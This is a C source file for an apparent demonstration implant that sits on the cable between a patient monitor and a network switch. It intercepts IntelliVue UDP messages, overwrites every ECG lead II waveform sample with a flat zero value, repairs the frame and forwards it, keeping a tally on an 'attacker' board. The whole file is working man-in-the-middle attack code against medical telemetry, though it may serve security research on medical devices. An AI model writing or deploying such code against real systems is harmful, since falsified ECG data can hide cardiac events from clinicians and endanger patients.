#include "demo/implant.h"

#include <poll.h>
#include <unistd.h>

#include "base/clock.h"
#include "demo/frame.h"
#include "demo/intellivue.h"

unsigned implant_flatten(uint8_t *datagram, size_t len)
{
	struct ivue_message m;
	unsigned n = 0;

	if (ivue_read((struct bytes){datagram, len}, &m) != PARSE_OK || m.kind != IVUE_RESULT)
		return 0;
	for (unsigned i = 0; i < m.waves; i++) {
		uint8_t *at = datagram + (m.wave[i].samples.data - datagram);

		if (m.wave[i].physio != IVUE_ECG_II)
			continue;
		for (size_t k = 0; k + 1 < m.wave[i].samples.len; k += 2) {
			at[k] = PATIENT_ECG_ZERO >> 8;
			at[k + 1] = PATIENT_ECG_ZERO & 0xff;
		}
		n++;
	}
	return n;
}

/* One frame from one end of the cable to the other. */
static void pass_on(const struct attacker *a, int from, int to, bool forge)
{
	uint8_t frame[2048];
	ssize_t n = frame_receive(from, frame, sizeof(frame), 0);
	struct frame_ip f;

	if (n <= 0)
		return;
	if (forge && frame_parse(frame, (size_t)n, &f) && f.proto == 17 && f.len > 8 &&
	    (f.payload[0] << 8 | f.payload[1]) == IVUE_PORT) {
		a->board->forged += implant_flatten(f.payload + 8, f.len - 8);
		frame_fix(&f);
	}
	frame_send(to, frame, (size_t)n);
}

int implant_run(void *arg)
{
	const struct attacker *a = arg;
	struct pollfd end[2] = {{.fd = frame_socket(IMPLANT_MONITOR), .events = POLLIN},
				{.fd = frame_socket(IMPLANT_SWITCH), .events = POLLIN}};

	if (end[0].fd < 0 || end[1].fd < 0)
		return 1;
	for (;;) {
		if (poll(end, 2, 100) <= 0)
			continue;
		if (end[0].revents)
			pass_on(a, end[0].fd, end[1].fd, true);
		if (end[1].revents)
			pass_on(a, end[1].fd, end[0].fd, false);
	}
}
